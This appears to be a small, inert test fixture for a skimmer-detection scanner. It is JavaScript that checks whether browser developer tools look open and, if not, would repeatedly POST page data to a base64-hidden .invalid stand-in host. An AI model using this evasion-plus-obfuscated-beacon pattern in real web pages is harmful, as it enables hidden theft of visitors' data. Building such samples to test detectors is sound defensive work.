/* synthetic test sample for breachscan: skimmer anti-analysis shape - stays silent while
 * developer tools look open (window size deltas), otherwise polls and sends data to an
 * atob-hidden host. Inert (`if (false)`, .invalid host). */
function devtoolsOpen() {
  var t = 160;
  return window.outerWidth - window.innerWidth > t || window.outerHeight - window.innerHeight > t;
}
if (false) {
  setInterval(function () {
    if (devtoolsOpen()) return;
    fetch(atob("aHR0cHM6Ly9zdGF0cy5pbnZhbGlkL3A="), { method: "POST", body: document.title });
  }, 1000);
}
